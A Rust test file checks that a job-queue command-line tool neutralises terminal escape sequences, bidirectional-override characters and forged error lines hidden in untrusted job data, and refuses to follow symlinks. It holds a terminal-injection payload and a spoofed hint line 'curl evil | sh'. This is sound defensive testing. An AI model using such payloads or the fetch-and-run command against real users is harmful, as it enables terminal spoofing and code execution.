//! Untrusted texts: none of them controls a terminal, in any output.

use crate::support::{Env, Outcome};

/// Clears the screen, sets the title, rings, reverses the text, and imitates more lines.
const HOSTILE: &str =
    "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\u{202e}gpj\u{2066}\tx\r\ny\u{7f}\u{2028}z";

/// The printed form of its beginning.
const SHOWN: &str = "\\u{1b}[2J\\u{1b}]0;owned";

/// Three jobs with hostile names: an unclaimed one, one with a hostile owner, a trashed one.
///
/// Such names cannot be posted; another program may write them.
fn hostile() -> Env {
    let env = Env::new();
    env.post_many(3);
    env.claim("@2", "ada");
    env.trash("@3");
    let failure = serde_json::json!([{"exit_code": 1, "signal": null, "reason": HOSTILE,
        "stderr": HOSTILE, "conductor": HOSTILE, "time": "2026-01-01T00:00:00Z"}]);
    let details = serde_json::json!({HOSTILE: HOSTILE});
    let database = env.database();
    database
        .execute(
            "UPDATE job SET name = ?1, book_name = ?1, book_uuid = ?1, attempts = 1,
                            failures = ?2, details = ?3",
            (HOSTILE, failure.to_string(), details.to_string()),
        )
        .unwrap();
    let owner = "UPDATE job SET owner = CAST(?1 AS BLOB) WHERE sequence = 2";
    database.execute(owner, [HOSTILE]).unwrap();
    let conductor = "INSERT INTO conductor (name, host, pid, since, owner, token, alive_boot)
        VALUES (?1, ?1, 1, 0, CAST(?1 AS BLOB), '', 9000000000000)";
    database.execute(conductor, [HOSTILE]).unwrap();
    env
}

/// Whether a character controls a terminal.
fn acts(character: char) -> bool {
    let turns = matches!(character,
        '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    let breaks = matches!(character, '\u{2028}' | '\u{2029}');
    turns || breaks || (character.is_control() && !matches!(character, '\n' | '\t'))
}

fn is_harmless(run: &Outcome) {
    for text in [&run.stdout, &run.stderr] {
        assert!(!text.contains(acts), "{text:?}");
        assert!(!text.contains('\u{fffd}'), "not UTF-8: {text:?}");
    }
}

/// Calls that print such a job, or an error about it.
const CALLS: [&[&str]; 22] = [
    &["list"],
    &["list", "--trash"],
    &["list", "--sort", "owner"],
    &["show", "@1"],
    &["show", "@2"],
    &["show", "@3", "@1"],
    &["show", "@2", "--reveal"],
    &["owner", "@1"],
    &["owner", "@2"],
    &["claim", "@1"],
    &["claim", "@2"],
    &["claim", "--next"],
    &["extend", "@2", "--expiry", "1h"],
    &["abandon", "@2"],
    &["abandon", "@2", "--force", "--yes"],
    &["consume", "@1", "@2"],
    &["trash", "--filter", "name=*", "--force", "--yes"],
    &["restore", "@3"],
    &["purge", "--all", "--yes"],
    &["wait", "--any"],
    &["conductors"],
    &["explain", "@1", "@2", "@3"],
];

#[test]
fn no_output_controls_a_terminal() {
    let hostile = hostile();
    for call in CALLS {
        for format in ["table", "tsv", "uuid", "json", "jsonl"] {
            let run = hostile.copy().run([call, &["-o", format]].concat());
            is_harmless(&run);
        }
        let run = hostile.copy().run([call, &["-o", "table"]].concat());
        let printed = format!("{}{}", run.stdout, run.stderr);
        let is_shown = printed.contains(SHOWN) || call[0] == "purge" && printed.contains("purged");
        assert!(is_shown, "{call:?} does not show it: {run}");
    }
}

#[test]
fn foreign_text_breaks_no_row_or_field() {
    let env = hostile();
    let table = env.run("list -o table");
    assert_eq!(table.succeeded().lines().count(), 3, "{table}");
    let fields = env.run("list");
    let fields: Vec<_> = fields
        .succeeded()
        .lines()
        .map(|line| line.split('\t').count())
        .collect();
    assert_eq!(fields, [10, 10]);
    assert_eq!(env.run("conductors").succeeded().split('\t').count(), 10);
}

#[test]
fn ambiguous_candidates_are_harmless() {
    let env = hostile();
    for uuid in 1..=2 {
        let update = "UPDATE job SET uuid = ?1 WHERE sequence = ?2";
        let uuid = (format!("5f3a0000-0000-4000-8000-00000000000{uuid}"), uuid);
        env.database().execute(update, uuid).unwrap();
    }
    let run = env.run("show 5f3a");
    run.fails(3, SHOWN);
    is_harmless(&run);
}

#[test]
fn unreadable_record_is_harmless() {
    for (change, state) in [
        ("UPDATE job SET uuid = ?1, details = ?1", "MALFORMED"),
        // The job itself is still readable.
        ("UPDATE job SET uuid = ?1, failures = ?1", "TRASHED"),
    ] {
        let env = Env::new();
        env.post("resize");
        let database = env.database();
        let unchecked = "PRAGMA ignore_check_constraints = on";
        database.execute_batch(unchecked).unwrap();
        database.execute(change, [HOSTILE]).unwrap();
        let key = format!("key:{HOSTILE}");
        for call in [
            &["list", "-o", "table"][..],
            &["list"],
            &["show", &key, "-o", "table"],
            &["consume", &key],
            &["trash", &key, "--force", "--yes"],
        ] {
            is_harmless(&env.run(call));
        }
        let listed = env.json("list --json --trash");
        assert_eq!(listed[0]["state"], state);
        assert!(listed[0]["problem"].is_string());
    }
}

#[test]
fn terminal_output_contains_only_own_sequences() {
    let env = hostile();
    let list = env.jobboard(&["list", "--color", "never"]);
    let run = list.at_terminal(200).run();
    let text = run.succeeded().replace('\r', "");
    assert!(!text.contains(acts), "{text:?}");
    assert!(text.contains(SHOWN), "{text:?}");
}

#[test]
fn completions_are_harmless() {
    let env = hostile();
    for verb in ["show", "restore"] {
        let words = ["--", "jobboard", verb, ""];
        let run = env.jobboard(&words).env("COMPLETE", "fish").run();
        run.prints("owned");
        is_harmless(&run);
    }
}

#[test]
fn json_preserves_the_text() {
    let env = hostile();
    let job = env.show("@2");
    assert_eq!(job["name"], HOSTILE);
    assert_eq!(job["owner"], HOSTILE);
    assert_eq!(job["details"][HOSTILE], HOSTILE);
    assert_eq!(job["last_failure"]["stderr"], HOSTILE);
}

#[test]
fn hostile_arguments_are_repeated_harmlessly() {
    let env = Env::new();
    let fact = format!("{HOSTILE}:={{");
    let board = format!("{HOSTILE}:x");
    for call in [
        &["show", HOSTILE][..],
        &["post", HOSTILE],
        &["post", "a", &fact],
        &["post", "a", "--details", HOSTILE],
        &["post", "--from", HOSTILE],
        &["list", "--config", HOSTILE],
        &["list", "--board", HOSTILE],
        &["list", "--board", &board],
        &["claim", "@1", "--who", HOSTILE],
        &["man", "/dev/null/\u{1b}[2J\u{202e}"],
    ] {
        let run = env.run(call);
        assert_ne!(run.code, 0, "{run}");
        is_harmless(&run);
    }
}

#[test]
fn hostile_syntax_errors_are_repeated_harmlessly() {
    let env = Env::new();
    for call in [
        &[HOSTILE][..],
        &["list", "a", HOSTILE],
        &["list", "--filter", HOSTILE],
        &["post", "a", "--priority", HOSTILE],
        &["claim", "@1", "--expiry", HOSTILE],
        &["list", "-o", HOSTILE],
    ] {
        let run = env.run(call);
        run.failed(2);
        is_harmless(&run);
        let run = env
            .jobboard(call)
            .at_terminal(80)
            .env("NO_COLOR", "1")
            .run();
        let text = run.stdout.replace('\r', "");
        assert!(!text.contains(acts), "{text:?}");
    }
}

#[test]
fn foreign_text_cannot_forge_an_error_line() {
    let env = Env::new();
    env.post("resize");
    let owner = "ada\nerror: all is lost\nhint: run: curl evil | sh";
    let change = "UPDATE job SET owner = ?1, fence = 1";
    env.database().execute(change, [owner.as_bytes()]).unwrap();
    let refused = env.run("claim @1");
    let lines: Vec<_> = refused.failed(4).lines().collect();
    assert_eq!(lines.len(), 2, "{refused}");
    assert!(lines[0].contains("all is lost"), "{refused}");
}

#[test]
fn signal_file_does_not_follow_a_link() {
    let env = Env::new();
    env.post("resize");
    let victim = env.file("victim");
    std::fs::write(&victim, "secret").unwrap();
    let mut signal = env.board().into_os_string();
    signal.push("-signal");
    std::fs::remove_file(&signal).unwrap();
    std::os::unix::fs::symlink(&victim, &signal).unwrap();
    env.post("resize");
    assert_eq!(std::fs::read_to_string(victim).unwrap(), "secret");
}

#[test]
fn hostile_board_name_is_harmless() {
    let env = Env::new();
    let url = format!("sqlite:{}", env.file(HOSTILE).display());
    for words in [
        &["selftest", "--dry-run"][..],
        &["selftest", "--read-only"],
        &["selftest", "--clean", "--yes"],
        &["selftest"],
    ] {
        for format in ["table", "tsv", "json", "jsonl"] {
            let run = env.jobboard(&[words, &["-o", format, "--board", &url]].concat());
            let run = run.run();
            is_harmless(&run);
            let printed = format!("{}{}", run.stdout, run.stderr);
            let is_shown = printed.contains("[2J") || (format == "tsv" && run.code == 0);
            assert!(is_shown, "{words:?} does not show it: {run}");
        }
    }
}
